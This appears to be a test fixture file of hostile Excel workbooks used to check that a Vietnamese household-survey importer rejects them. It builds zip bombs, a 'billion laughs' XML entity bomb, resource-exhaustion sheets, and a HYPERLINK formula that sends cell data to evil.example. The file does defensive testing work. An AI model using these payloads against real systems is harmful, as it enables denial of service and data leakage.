/**
 * Hostile workbooks for issue 9 item 4, built byte by byte (test/support/workbooks.ts' zip writer) or with exceljs.
 * Each case names the outcomes that count as a proper refusal: a failure code of the import, an HTTP error code, or
 * ROWS:<code> when the file is read but every row is refused with that row code. VALID marks input that is not hostile
 * after all (NFD text must simply work).
 */
import crypto from 'node:crypto';
import { hostile, minimalXlsx, surveyHeaders, surveyRows, workbookBuffer, zipOf } from './workbooks.ts';

export interface HostileCase {
  name: string;
  /** Part of the light run inside `npm test`. */
  light?: boolean;
  build(): Promise<Buffer> | Buffer;
  expect: string[];
}

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const colName = (n: number): string => (n <= 0 ? '' : colName(Math.floor((n - 1) / 26)) + String.fromCharCode(65 + ((n - 1) % 26)));
const inline = (ref: string, v: string) => `<c r="${ref}" t="inlineStr"><is><t>${esc(v)}</t></is></c>`;
const rowXml = (r: number, values: string[]) => `<row r="${r}">${values.map((v, i) => inline(`${colName(i + 1)}${r}`, v)).join('')}</row>`;
const sheet = (rows: string, extra = '', before = '') => `<worksheet xmlns="${MAIN}">${before}<sheetData>${rows}</sheetData>${extra}</worksheet>`;
const HEADERS = surveyHeaders();
const header = rowXml(1, HEADERS);
const ID_COLUMN = HEADERS.indexOf('Số CCCD/CMND');
const DATA = surveyRows(3).slice(1).map((r) => r.map((v) => String(v ?? '')));

/** How Vietnamese typed with the legacy TCVN3 (ABC) and VNI fonts reads once the bytes are taken as Unicode. */
const TCVN3: Record<string, string> = { 'Mã phường': 'M· ph\u00adêng', 'Mã hộ': 'M· hé', 'Họ tên chủ hộ': 'Hä tªn chñ hé', 'Khu vực': 'Khu vùc', 'Nguyễn Văn An': 'NguyÔn V¨n An', 'Trần Thị Bình': 'TrÇn ThÞ B×nh' };
const VNI: Record<string, string> = { 'Mã phường': 'Maõ phöôøng', 'Mã hộ': 'Maõ hoä', 'Họ tên chủ hộ': 'Hoï teân chuû hoä', 'Khu vực': 'Khu vöïc', 'Nguyễn Văn An': 'Nguyeãn Vaên An', 'Trần Thị Bình': 'Traàn Thò Bình' };
const legacyFile = (map: Record<string, string>, headersToo: boolean) => {
  const head = HEADERS.map((h) => (headersToo ? (map[h] ?? h.replace(/[^\x00-\x7f]/g, '¨')) : h));
  const rows = DATA.map((r, i) => rowXml(i + 2, r.map((v, j) => (j === 2 ? Object.values(map)[4 + (i % 2)]! : v))));
  return minimalXlsx(sheet(rowXml(1, head) + rows.join('')));
};

/** A compound-file (OLE2) container: what Excel writes for a password-protected workbook, and for old .xls files. */
function compoundFile(streamName: string): Buffer {
  const buf = Buffer.alloc(4096);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(buf, 0);
  buf.writeUInt16LE(0x3e, 24);
  buf.writeUInt16LE(3, 26);
  buf.writeUInt16LE(0xfffe, 28);
  buf.write(streamName, 1024, 'utf16le');
  return buf;
}

async function validWorkbook(): Promise<Buffer> {
  return workbookBuffer([{ name: 'Hộ', rows: surveyRows(50) }]);
}

export const HOSTILE: HostileCase[] = [
  { name: 'not a zip (CSV text named .xlsx)', light: true, build: hostile.notAZip, expect: ['NOT_XLSX'] },
  { name: 'empty file', build: () => Buffer.alloc(0), expect: ['NOT_XLSX', 'VALIDATION_FAILED'] },
  { name: 'random bytes', build: () => crypto.randomBytes(64 * 1024), expect: ['NOT_XLSX'] },
  { name: 'truncated at half', light: true, build: async () => hostile.truncated(await validWorkbook()), expect: ['ZIP_CORRUPT'] },
  { name: 'truncated after 100 bytes', build: async () => (await validWorkbook()).subarray(0, 100), expect: ['ZIP_CORRUPT'] },
  { name: 'zip bomb (300 MB of zeros)', light: true, build: () => hostile.zipBomb(), expect: ['ZIP_BOMB'] },
  { name: 'zip bomb declaring a tiny size', build: () => hostile.zipBomb(true), expect: ['ZIP_BOMB', 'ZIP_CORRUPT'] },
  { name: '2,001 zip entries', build: () => minimalXlsx(sheet(header), Array.from({ length: 2001 }, (_, i) => ({ name: `xl/media/p${i}.bin`, data: Buffer.from([i & 255]) }))), expect: ['ZIP_TOO_MANY_ENTRIES'] },
  { name: 'huge declared dimension A1:C1000000', build: hostile.millionRows, expect: ['TOO_MANY_ROWS'] },
  { name: 'declared dimension A1:XFD1048576', build: () => minimalXlsx(sheet(header, '', '<dimension ref="A1:XFD1048576"/>')), expect: ['TOO_MANY_ROWS'] },
  { name: 'whole-column data validation A1:A1048576', light: true, build: hostile.wholeColumnValidation, expect: ['UNSAFE_DATA_VALIDATION'] },
  { name: 'data validation on column A:A', build: () => minimalXlsx(sheet(header, '<dataValidations count="1"><dataValidation type="list" sqref="A:A"><formula1>"a,b"</formula1></dataValidation></dataValidations>')), expect: ['UNSAFE_DATA_VALIDATION'] },
  { name: 'data validation over 200,000 rows in many ranges', build: () => minimalXlsx(sheet(header, `<dataValidations count="1"><dataValidation type="list" sqref="${Array.from({ length: 20 }, (_, i) => `${colName(i + 1)}2:${colName(i + 1)}200001`).join(' ')}"><formula1>"a,b"</formula1></dataValidation></dataValidations>`)), expect: ['UNSAFE_DATA_VALIDATION'] },
  { name: '1 M empty rows', build: () => minimalXlsx(sheet(header + Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 2}"/>`).join(''))), expect: ['TOO_MANY_ROWS', 'ZIP_BOMB'] },
  { name: '200,001 one-cell rows', build: () => minimalXlsx(sheet(header + Array.from({ length: 200_001 }, (_, i) => `<row r="${i + 2}"><c r="A${i + 2}"><v>${i}</v></c></row>`).join(''))), expect: ['TOO_MANY_ROWS'] },
  {
    name: 'shared-strings bomb (2 M shared strings)',
    build: () => minimalXlsx(sheet(header), [{ name: 'xl/sharedStrings.xml', data: Buffer.from(`<sst xmlns="${MAIN}" count="2000000" uniqueCount="2000000">${'<si><t>Nguyễn Văn A</t></si>'.repeat(2_000_000)}</sst>`) }]),
    expect: ['ZIP_BOMB', 'ZIP_TOO_LARGE', 'PARSE_OUT_OF_MEMORY'],
  },
  {
    name: 'shared strings: 300,000 distinct strings',
    build: () => minimalXlsx(sheet(header), [{ name: 'xl/sharedStrings.xml', data: Buffer.from(`<sst xmlns="${MAIN}">${Array.from({ length: 300_000 }, () => `<si><t>${crypto.randomBytes(24).toString('base64')}</t></si>`).join('')}</sst>`) }]),
    expect: ['EMPTY', 'NO_HOUSEHOLD_SHEET', 'MISSING_COLUMNS'],
  },
  // Excel stops at column XFD (16,384): a sheet with 20,000 columns is malformed, and exceljs refuses it (PARSE_FAILED).
  { name: '20 k columns in the header row', build: () => minimalXlsx(sheet(rowXml(1, Array.from({ length: 20_000 }, (_, i) => `Cột ${i + 1}`)))), expect: ['PARSE_FAILED', 'NO_HOUSEHOLD_SHEET'] },
  { name: '16,384 columns (the maximum) in the header row', build: () => minimalXlsx(sheet(rowXml(1, Array.from({ length: 16_384 }, (_, i) => `Cột ${i + 1}`)))), expect: ['NO_HOUSEHOLD_SHEET'] },
  // Each row its own household code and ID number (one number in two households of a file is refused since issue 17).
  { name: '16,384 columns in data rows', build: () => minimalXlsx(sheet(header + [2, 3, 4].map((r) => rowXml(r, [...DATA[0]!.map((v, j) => (j === 1 ? `X${r}` : j === ID_COLUMN ? DATA[r - 2]![ID_COLUMN]! : v)), ...Array.from({ length: 16_384 - HEADERS.length }, (_, i) => `${i}`)])).join(''))), expect: ['VALID'] },
  {
    name: 'formulas everywhere (no cached results)',
    build: () => minimalXlsx(sheet(header + [2, 3, 4, 5].map((r) => `<row r="${r}">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}${r}"><f>HYPERLINK("http://evil.example/"&amp;A1,"x")</f></c>`).join('')}</row>`).join(''))),
    expect: ['ROWS:FORMULA_WITHOUT_VALUE', 'ROWS:REQUIRED', 'ROWS:MISSING_INCOME'],
  },
  { name: 'formulas with cached error values', build: () => minimalXlsx(sheet(header + `<row r="2">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}2" t="e"><f>1/0</f><v>#DIV/0!</v></c>`).join('')}</row>`)), expect: ['ROWS:CELL_ERROR', 'ROWS:FORMULA_WITHOUT_VALUE'] },
  { name: 'wrong sheet names, no headers', light: true, build: () => workbookBuffer([{ name: 'Sheet1', rows: [['abc', 'def']] }, { name: 'Data', rows: [[1, 2, 3]] }]), expect: ['NO_HOUSEHOLD_SHEET'] },
  { name: 'only a members sheet', build: () => workbookBuffer([{ name: 'Nhân khẩu', rows: [['Mã phường', 'Mã hộ', 'Họ tên', 'Năm sinh', 'Giới tính'], ['26764', 'A1', 'Lê Văn B', 1980, 'Nam']] }]), expect: ['NO_HOUSEHOLD_SHEET'] },
  { name: 'sheet "Hộ" with unrelated headers', build: () => workbookBuffer([{ name: 'Hộ', rows: [['Tên', 'Tuổi', 'Ghi chú'], ['An', 30, '']] }]), expect: ['NO_HOUSEHOLD_SHEET'] },
  { name: 'required columns missing', build: () => workbookBuffer([{ name: 'Hộ', rows: [['Mã phường', 'Mã hộ', 'Họ tên chủ hộ'], ['26764', 'A1', 'Lê Văn B']] }]), expect: ['MISSING_COLUMNS'] },
  { name: 'legacy TCVN3 (ABC) text, headers included', light: true, build: () => legacyFile(TCVN3, true), expect: ['NO_HOUSEHOLD_SHEET', 'MISSING_COLUMNS'] },
  { name: 'legacy VNI text, headers included', build: () => legacyFile(VNI, true), expect: ['NO_HOUSEHOLD_SHEET', 'MISSING_COLUMNS'] },
  { name: 'legacy TCVN3 names under Unicode headers', build: () => legacyFile(TCVN3, false), expect: ['ROWS:LEGACY_ENCODING'] },
  { name: 'legacy VNI names under Unicode headers', build: () => legacyFile(VNI, false), expect: ['ROWS:LEGACY_ENCODING'] },
  { name: 'NFD text (headers and data)', light: true, build: () => minimalXlsx(sheet(rowXml(1, HEADERS.map((h) => h.normalize('NFD'))) + DATA.map((r, i) => rowXml(i + 2, r.map((v) => v.normalize('NFD')))).join(''))), expect: ['VALID'] },
  { name: 'password-protected (encrypted OLE2 package)', light: true, build: () => compoundFile('EncryptedPackage'), expect: ['NOT_XLSX'] },
  { name: 'Excel 97-2003 .xls', build: () => compoundFile('Workbook'), expect: ['NOT_XLSX'] },
  { name: 'zip without a workbook (a .docx)', build: () => zipOf([{ name: 'word/document.xml', data: Buffer.from('<w:document/>') }]), expect: ['NOT_XLSX'] },
  { name: 'workbook.xml is not XML', build: () => zipOf([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }, { name: 'xl/workbook.xml', data: crypto.randomBytes(2048) }]), expect: ['PARSE_FAILED', 'NO_HOUSEHOLD_SHEET'] },
  { name: 'XML entity expansion ("billion laughs")', build: () => minimalXlsx(`<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>` + sheet(header + rowXml(2, ['&j;'])).replace('&amp;j;', '&j;')), expect: ['PARSE_FAILED', 'NO_HOUSEHOLD_SHEET', 'MISSING_COLUMNS', 'ROWS:REQUIRED', 'ROWS:UNKNOWN_WARD'] },
  { name: 'merged cells over the whole sheet', build: () => minimalXlsx(sheet(header + DATA.map((r, i) => rowXml(i + 2, r)).join(''), '<mergeCells count="1"><mergeCell ref="A10:XFD1048576"/></mergeCells>')), expect: ['TOO_MANY_ROWS', 'UNSAFE_MERGE', 'VALID'] },
  { name: 'one 8 MB text cell', build: () => minimalXlsx(sheet(header + rowXml(2, DATA[0]!.map((v, j) => (j === 2 ? crypto.randomBytes(6 * 1024 * 1024).toString('base64') : v))))), expect: ['ROWS:INVALID_VALUE', 'ROWS:TOO_LONG', 'ROWS:REQUIRED'] },
];
